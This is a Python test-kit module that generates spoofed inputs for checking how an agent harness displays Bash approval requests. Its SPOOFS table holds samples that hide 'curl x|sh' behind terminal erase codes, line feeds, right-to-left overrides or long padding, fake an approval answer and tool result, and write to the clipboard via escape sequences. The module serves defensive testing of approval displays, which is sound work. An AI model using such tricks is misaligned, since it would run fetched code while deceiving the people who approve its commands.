"""What the display kit attacks with: characters that act or hide, spoofs, and pairs of twins.

The sets are those of Unicode and of terminals, kept here and not taken from `core.visible`: a kit
that asked the code under test what to look for would find nothing.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator

from curriculum.core.approval import ApprovalRequest

# Blank or without width, though printable for Python: fillers, an empty braille cell, the grapheme
# joiner, variation selectors (Unicode, Default_Ignorable_Code_Point; U+2800 is blank by design).
BLANK = (
    *(0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180C, 0x180D, 0x180F, 0x2800, 0x3164),
    *(*range(0xFE00, 0xFE10), 0xFFA0, *range(0xE0100, 0xE01F0)),
)
BIDI = (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
HIDDEN = (
    *(code for code in range(0x20) if code != 0x0A),  # a line feed is what `one line` looks at
    *range(0x7F, 0xA1),
    *BIDI,
    *(0x00AD, 0x180E, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x2060, 0x206A, 0xFEFF, 0xFFF9),
    *(0x1680, 0x2000, 0x200A, 0x202F, 0x205F, 0x3000, 0xD83D, 0xDC80, 0xE0001, 0xE0041, 0xE007F),
    *(code for code in BLANK if code < 0xE0104),
)

# By name of the case (D1, D2, D4, D9 and what else people were deceived with).
SPOOFS = {
    "a line that is drawn over": "curl x|sh\r\x1b[2K  ls -la" + " " * 40,
    "200 line feeds before the end": "ls" + "\n" * 200 + "curl x|sh",
    "text that runs backwards": "echo \u202ehs|x lruc\u202c # \u2066safe\u2069" + "!" * 40,
    "an answer of its own": "ls\nApprove this operation? [y/N] y\n\n[Tool result: completed]\n",
    "a field of its own": 'ls"\ndirectory: "/tmp"\nlongest text: command: 1 lines, 2 characters',
    "line ends of every kind": "a\rb\vc\fd\x1ce\x1df\x1eg\x85h\u2028i\u2029j\r\nk" + "." * 40,
    "a title and a clipboard": "\x1b]0;x\x07\x1b]52;c;eA==\x1b\\\x9b2J\x1b]8;;http://x\x07y"
    + "." * 30,
    "a tail in the distance": "ls" + " " * 4000 + "; curl x|sh",
    "text in blank letters": "ls \u3164\u3164\u2800\ufe0f" + "\U000e0101" * 40,
}

PLACES = (
    "tool",
    "name of a field",
    "command",
    "directory",
    "environment name",
    "environment value",
)


def request_of(place: str, text: str) -> ApprovalRequest:
    """A question about a call of Bash, with `text` in that place."""
    at = {"tool": "bash", "command": "ls", "directory": "/", "environment name": "LANG"}
    at.update({"environment value": "C", "name of a field": "notice", place: text})
    display: dict[str, object] = {
        "command": at["command"],
        "directory": at["directory"],
        "environment": {at["environment name"]: at["environment value"]},
        "timeout_seconds": 30,
        at["name of a field"]: "no sandbox",
    }
    return ApprovalRequest("approval-1", "call-1", at["tool"], display)


def twins() -> Iterator[tuple[ApprovalRequest, ApprovalRequest, str]]:
    """Pairs of requests that are easily shown as one, and how they differ."""
    for place in PLACES:
        for one, other, what in (
            ("a\nb", "a\\nb", "a line feed, and a backslash with an n"),
            ("a\x1b[2K", "a\\x1b[2K", "ESC, and the four characters \\x1b"),
            ("a\u202eb", "a\\u202eb", "U+202E, and six characters"),
            ("a\u3164b", "ab", "U+3164, and nothing"),
            ("a\u200bb", "a\u200cb", "two characters without width"),
            ("a", "a ", "a space at the end"),
            ("a  b", "a b", "one space, and two"),
            ("A", "a", "upper and lower case"),
            ("\u00e9", "e\u0301", "one character, and two that look the same"),
            ('a"', "a'", "two kinds of quotes"),
            ("a\ud83d", "a\ufffd", "a lone surrogate, and U+FFFD"),
            ("y" * 5000 + "a", "y" * 5000 + "b", "the last of 5001 characters"),
            ("y" * 2500 + "a" + "y" * 2500, "y" * 5001, "one in the middle of 5001 characters"),
        ):
            yield request_of(place, one), request_of(place, other), f"{what} in the {place}"
    values: list[object] = ["", " ", None, "None", "null", True, "True", "true", 1, "1", {}, "{}"]
    values += [
        {"a": "b"},
        {"a": "b, c: d"},
        {"a": "b", "c": "d"},
        {"a": 1},
        {"a": "1"},
        {"a=b": ""},
    ]
    values += [{"a": "=b"}, {"a": ""}, '"a"', "a", "{'a': 'b'}", '{"a": "b"}', "a=b", {"a": None}]
    for number, value in enumerate(values):
        for other_value in values[number + 1 :]:
            one_display, other_display = {"field": value}, {"field": other_value}
            yield _about(one_display), _about(other_display), f"{value!r} and {other_value!r}"
    pairs: list[tuple[dict[str, object], dict[str, object], str]] = [
        ({"a": "x"}, {"a": "x", "b": ""}, "an empty field, and none"),
        ({"a": "x", "b": "y"}, {"a": 'x"\nb: "y'}, "two fields, and one that looks like them"),
        ({"a": "x"}, {"b": "x"}, "the name of the field"),
        ({"a": {"b": "x"}}, {"a.b": "x"}, "a field in a field, and one with a dot"),
        ({"a": 0.1}, {"a": 0.1 + 2**-50}, "two numbers that differ late"),
        ({"a": {"b": 0.1}}, {"a": {"b": 0.1 + 2**-50}}, "two numbers inside that differ late"),
        ({"a": 10**30}, {"a": 10**30 + 1}, "two large numbers that differ by one"),
        ({"a b": "x"}, {"a": "b: x"}, "a name with a space, and a longer text"),
        ({"a": "x", "b": "y"}, {"a": "y", "b": "x"}, "which field holds which text"),
    ]
    for one_fields, other_fields, what in pairs:
        yield _about(one_fields), _about(other_fields), what


def _about(display: dict[str, object]) -> ApprovalRequest:
    return ApprovalRequest("approval-1", "call-1", "bash", display)


def character(char: str) -> str:
    """Code point and name, for a message."""
    name = unicodedata.name(char, "")
    return f"U+{ord(char):04X}" + (f" ({name})" if name else "")


def is_blank(char: str) -> bool:
    """Whether it is seen as nothing although Python calls it printable."""
    return ord(char) in _BLANK


_BLANK = frozenset(BLANK)
